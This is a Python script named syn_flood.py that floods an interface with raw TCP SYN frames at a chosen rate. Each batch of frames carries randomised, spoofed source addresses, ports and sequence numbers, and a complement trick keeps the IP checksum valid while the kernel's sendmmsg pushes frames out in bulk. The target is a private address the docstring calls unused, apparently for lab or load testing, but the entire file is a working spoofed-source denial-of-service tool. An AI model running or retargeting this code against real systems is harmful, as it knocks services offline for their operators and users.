"""Sends SYNs of ever new flows out of an interface until it is ended: syn_flood.py INTERFACE FRAMES_PER_SECOND

To high ports of an address that nobody has. Half of the source address, the ports and the sequence number are random, the other
half of the address keeps the header's checksum what it is.
"""

import ctypes
import os
import socket
import struct
import sys
import time

from frames import checksum

BATCH = 256
SLOT = 60
SOURCE, SOURCE_PORT, LOW_PORT, SEQUENCE = 26, 34, 37, 38  # where in a frame
COMPLEMENT = bytes(255 - value for value in range(256))


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("iov", ctypes.POINTER(IoVec)),
                ("iov_length", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("header", MsgHdr), ("length", ctypes.c_uint)]


def template():
    """From 0.0.255.255, whose two halves add up to what those of any source here do."""
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, bytes((0, 0, 255, 255)), socket.inet_aton("10.1.0.9")))
    ip[10:12] = struct.pack("!H", checksum(bytes(ip)))
    tcp = struct.pack("!HHIIBBHHH", 0, 0xC000, 0, 0, 0x50, 0x02, 65000, 0, 0)
    frame = bytes.fromhex("020000000009" + "0200000000fe" + "0800") + bytes(ip) + tcp
    return frame.ljust(SLOT, b"\0")


def flood(interface, rate):
    libc = ctypes.CDLL(None, use_errno=True)
    frames = bytearray(template() * BATCH)
    base = ctypes.addressof((ctypes.c_char * len(frames)).from_buffer(frames))
    vectors = (IoVec * BATCH)(*(IoVec(base + SLOT * i, SLOT) for i in range(BATCH)))
    messages = (MMsgHdr * BATCH)()
    for message, vector in zip(messages, vectors):
        message.header.iov, message.header.iov_length = ctypes.pointer(vector), 1
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        while True:
            for half in range(2):
                column = os.urandom(BATCH)
                frames[SOURCE + half::SLOT] = column
                frames[SOURCE + 2 + half::SLOT] = column.translate(COMPLEMENT)
            for at in (SOURCE_PORT, SOURCE_PORT + 1, LOW_PORT, *range(SEQUENCE, SEQUENCE + 4)):
                frames[at::SLOT] = os.urandom(BATCH)
            done = libc.sendmmsg(wire.fileno(), messages, BATCH, 0)
            if done < 0:
                raise OSError(ctypes.get_errno(), "sendmmsg")
            sent += done
            ahead = sent / rate - (time.monotonic() - began)
            if ahead > 0:
                time.sleep(ahead)


if __name__ == "__main__":
    flood(sys.argv[1], float(sys.argv[2]))
